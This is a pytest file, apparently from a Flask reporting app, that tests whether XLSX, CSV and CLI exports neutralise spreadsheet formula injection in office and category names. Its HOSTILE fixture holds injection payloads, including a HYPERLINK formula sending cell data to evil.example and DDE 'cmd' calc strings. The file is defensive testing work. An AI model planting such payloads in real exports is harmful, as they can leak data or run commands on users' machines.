"""Finding 9 (issue 17): office and category names such as ``=HYPERLINK(...)`` were written
as live formulas in the XLSX report and raw in the CSV. Every text cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return now starts with an apostrophe, in
every export (the staff API's XLSX and both CSV parts, the console's download, the monthly
report and ``flask reports export`` share ``reports.export``); numbers stay numbers."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

import directory
from core.db import db
from directory.models import Category, Office
from reports.export import FORMULA_START, safe_cell

HOSTILE = {
    "category": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "office": "+cmd|' /C calc'!A0",
    "other_office": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dash": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


@pytest.fixture
def hostile_names(ctx, world, submit):
    """A category and offices with formula names (written to the database directly: the
    API's single-line cleaning would already drop the tab and the carriage return), each
    with an item received in the commune this year."""
    names = []
    for key, name in HOSTILE.items():
        category = Category(code=f"formula-{key}", name=name)
        office = Office(unit_code=world.commune, name=name)
        db.session.add_all([category, office])
        db.session.commit()
        directory.set_route(category.code, world.commune, office.id)
        response = submit(category_code=category.code)
        assert response.status_code == 201, response.json
        names.append(name)
    return names


def _export(client, staff_headers, world, **params):
    response = client.get("/api/v1/staff/stats/export", headers=staff_headers("province_admin"),
                          query_string={"unit": world.commune, **params})
    assert response.status_code == 200, response.data[:300]
    return response


def test_safe_cell_neutralises_text_only():
    for start in FORMULA_START:
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("Phòng Kinh tế") == "Phòng Kinh tế"
    assert safe_cell(-5) == -5 and safe_cell(-2.5) == -2.5 and safe_cell(0) == 0
    assert safe_cell(None) is None
    assert safe_cell("-5") == "'-5"  # text that looks like a number is still text


def test_finding_09_spreadsheet_formulas_are_neutralised_in_the_xlsx(client, staff_headers,
                                                                     world, hostile_names):
    response = _export(client, staff_headers, world, format="xlsx")
    wb = openpyxl.load_workbook(io.BytesIO(response.data))
    texts, numbers = [], 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_START), (ws.title, cell.value)
                    texts.append(cell.value)
                elif isinstance(cell.value, int | float):
                    assert cell.data_type == "n"
                    numbers += 1
    for name in hostile_names:
        assert "'" + name in texts, name  # shown as written, as text
    assert numbers > 20  # the figures are still numbers


@pytest.mark.parametrize("part", ["summary", "detail"])
def test_finding_09_spreadsheet_formulas_are_neutralised_in_the_csv(client, staff_headers,
                                                                    world, hostile_names, part):
    response = _export(client, staff_headers, world, format="csv", part=part)
    text = response.get_data(as_text=True).lstrip("\ufeff")
    fields = [f for row in csv.reader(io.StringIO(text)) for f in row]
    assert fields
    for field in fields:
        assert not field.startswith(FORMULA_START), field
    if part == "detail":  # one row per item: its category and office as written, as text
        for name in hostile_names:
            assert "'" + name in fields, name
    else:  # the summary names them inside labels ("Lĩnh vực: =HYPERLINK…"): not formulas
        assert any(HOSTILE["category"] in f for f in fields)


def test_finding_09_the_cli_export_is_neutralised_too(runner, world, hostile_names, tmp_path):
    out = tmp_path / "report.csv"
    result = runner.invoke(args=["reports", "export", "--unit", world.commune, "--format", "csv",
                                 "--part", "detail", "--output", str(out)])
    assert result.exit_code == 0, result.output
    fields = [f for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")))
              for f in row]
    assert not [f for f in fields if f.startswith(FORMULA_START)]
    assert "'" + HOSTILE["category"] in fields
